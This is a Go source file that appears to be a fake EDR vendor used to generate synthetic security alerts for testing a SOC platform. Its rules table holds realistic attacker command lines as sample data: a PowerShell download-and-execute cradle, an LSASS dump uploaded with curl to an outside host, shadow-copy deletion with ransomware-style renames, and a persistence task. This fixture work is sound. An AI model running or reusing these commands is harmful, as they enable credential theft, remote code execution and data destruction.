package fake

import (
	"crypto/md5"
	"crypto/sha256"
	"encoding/hex"
	"fmt"

	"github.com/outpost-soc/outpost/sdk/fakevendor"
)

// alertJSON is an alert as the API renders it (about 1.5 KB).
type alertJSON struct {
	ID          string      `json:"id"`
	CreatedAt   string      `json:"created_at"`
	UpdatedAt   string      `json:"updated_at"`
	Title       string      `json:"title"`
	Description string      `json:"description"`
	Severity    string      `json:"severity"`
	Action      string      `json:"action"`
	Status      string      `json:"status"`
	Resolution  string      `json:"resolution,omitempty"`
	Owner       string      `json:"owner"`
	Host        string      `json:"host"`
	User        string      `json:"user"`
	SrcIP       string      `json:"src_ip"`
	DstIP       string      `json:"dst_ip"`
	Hash        string      `json:"hash"`
	Rule        ruleJSON    `json:"rule"`
	Process     processJSON `json:"process"`
	File        fileJSON    `json:"file"`
	Network     networkJSON `json:"network"`
	Device      deviceJSON  `json:"device"`
	Tags        []string    `json:"tags"`
	Comments    int         `json:"comments_count"`
	ConsoleURL  string      `json:"console_url"`
}

type ruleJSON struct {
	ID       string   `json:"id"`
	Name     string   `json:"name"`
	Category string   `json:"category"`
	Mitre    []string `json:"mitre"`
	Engine   string   `json:"engine"`
}

type processJSON struct {
	Name        string `json:"name"`
	PID         int    `json:"pid"`
	CommandLine string `json:"command_line"`
	Parent      string `json:"parent"`
	ParentPID   int    `json:"parent_pid"`
}

type fileJSON struct {
	Name string `json:"name"`
	Path string `json:"path"`
	Size int64  `json:"size"`
	MD5  string `json:"md5"`
}

type networkJSON struct {
	SrcPort  int    `json:"src_port"`
	DstPort  int    `json:"dst_port"`
	Protocol string `json:"protocol"`
	BytesOut int64  `json:"bytes_out"`
}

type deviceJSON struct {
	OS           string `json:"os"`
	AgentVersion string `json:"agent_version"`
	SensorID     string `json:"sensor_id"`
	Site         string `json:"site"`
}

// rule is a detection the fake's alerts come from.
type rule struct {
	id, name, category, severity string
	mitre                        []string
	process, parent, cmd, file   string
	dstPort                      int
}

var rules = []rule{
	{"HV-1001", "PowerShell download cradle", "execution", "high", []string{"T1059.001", "T1105"},
		"powershell.exe", "winword.exe", `powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command "IEX (New-Object Net.WebClient).DownloadString('http://%s/update.ps1')"`, "update.ps1", 80},
	{"HV-1002", "Credential dumping via LSASS memory access", "credential_access", "critical", []string{"T1003.001"},
		"rundll32.exe", "cmd.exe", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\lsass.dmp full & curl -T lsass.dmp http://%s/u`, "lsass.dmp", 80},
	{"HV-1003", "Outbound beacon to known command-and-control address", "command_and_control", "high", []string{"T1071.001", "T1573"},
		"svchost.exe", "services.exe", `svchost.exe -k netsvcs -p -s Schedule --connect https://%s:443/api/check-in`, "svchost.exe", 443},
	{"HV-1004", "Ransomware-like burst of file renames", "impact", "critical", []string{"T1486", "T1490"},
		"vssadmin.exe", "explorer.exe", `vssadmin.exe delete shadows /all /quiet && for %%f in (*.docx) do ren %%f %%f.locked & notify %s`, "README_RESTORE.txt", 445},
	{"HV-1005", "Scheduled task created for persistence", "persistence", "medium", []string{"T1053.005"},
		"schtasks.exe", "cmd.exe", `schtasks.exe /create /tn "OneDrive Standalone Update" /tr "C:\ProgramData\odsu.exe --server %s" /sc onlogon /rl highest`, "odsu.exe", 8443},
	{"HV-1006", "Internal host scanning many ports", "discovery", "low", []string{"T1046"},
		"nmap.exe", "powershell.exe", `nmap.exe -sS -T4 -p 1-65535 --open -oX C:\Temp\scan.xml %s/24`, "scan.xml", 22},
	{"HV-1007", "Macro-enabled document opened from e-mail", "initial_access", "low", []string{"T1566.001", "T1204.002"},
		"excel.exe", "outlook.exe", `EXCEL.EXE /dde "C:\Users\Public\Downloads\Invoice_2291.xlsm" /referrer %s`, "Invoice_2291.xlsm", 443},
	{"HV-1008", "Sign-in from an unfamiliar country followed by MFA reset", "defense_evasion", "medium", []string{"T1078.004", "T1556.006"},
		"msedge.exe", "explorer.exe", `msedge.exe --profile-directory=Default https://%s/mfa/reset?session=resumed`, "msedge.exe", 443},
}

var users = []string{"j.doe", "a.rossi", "m.bianchi", "s.kowalski", "l.nguyen", "p.schmidt", "svc-backup", "administrator"}

var sites = []string{"milan-hq", "berlin-dc1", "london-branch", "remote-vpn"}

func (f *Fake) render(a *fakevendor.Alert, base string) alertJSON {
	r := a.Rand
	ru := rules[r%uint64(len(rules))]
	user := users[(r>>8)%uint64(len(users))]
	host := fmt.Sprintf("ws-%04d.corp.hello.example", (r>>16)%5000)
	src := fmt.Sprintf("10.%d.%d.%d", (r>>24)&0xff, (r>>32)&0xff, (r>>40)%254+1)
	dst := fmt.Sprintf("203.0.113.%d", (r>>48)%254+1)
	sum := sha256.Sum256([]byte(a.ID))
	m := md5.Sum([]byte(a.ID))
	out := alertJSON{
		ID:        a.ID,
		CreatedAt: a.Time.Format(TimeFormat),
		Title:     fmt.Sprintf("%s on %s", ru.name, host[:7]),
		Description: fmt.Sprintf("Rule %s (%s) matched on host %s for user %s: process %s, started by %s, "+
			"contacted %s from %s. Isolate the host if this is not expected.",
			ru.id, ru.name, host, user, ru.process, ru.parent, dst, src),
		Severity: ru.severity,
		Action:   []string{"detected", "blocked"}[(r>>56)&1],
		Host:     host,
		User:     user,
		SrcIP:    src,
		DstIP:    dst,
		Hash:     hex.EncodeToString(sum[:]),
		Rule:     ruleJSON{ID: ru.id, Name: ru.name, Category: ru.category, Mitre: ru.mitre, Engine: "hello-edr/behavioral"},
		Process: processJSON{
			Name: ru.process, PID: int(r>>12)%60000 + 1000, CommandLine: fmt.Sprintf(ru.cmd, dst),
			Parent: ru.parent, ParentPID: int(r>>20)%60000 + 1000,
		},
		File: fileJSON{
			Name: ru.file, Path: `C:\Users\` + user + `\AppData\Local\Temp\` + ru.file,
			Size: int64(r>>28)%900000 + 1024, MD5: hex.EncodeToString(m[:]),
		},
		Network: networkJSON{SrcPort: int(r>>36)%28000 + 32768, DstPort: ru.dstPort, Protocol: "tcp", BytesOut: int64(r>>44)%500000 + 200},
		Device:  deviceJSON{OS: "Windows 11 Enterprise 23H2", AgentVersion: "7.14.2", SensorID: fmt.Sprintf("sn-%012x", r>>16), Site: sites[(r>>4)%uint64(len(sites))]},
		Tags:    []string{"edr", ru.category},
	}
	f.store.Read(a, func(a *fakevendor.Alert) {
		out.UpdatedAt = a.Updated.Format(TimeFormat)
		out.Status = a.Status
		if out.Status == "" {
			out.Status = "open"
		}
		out.Owner = a.Owner
		out.Resolution = a.Extra["resolution"]
		out.Comments = len(a.Comments)
	})
	out.ConsoleURL = base + "/console/alerts/" + a.ID
	return out
}
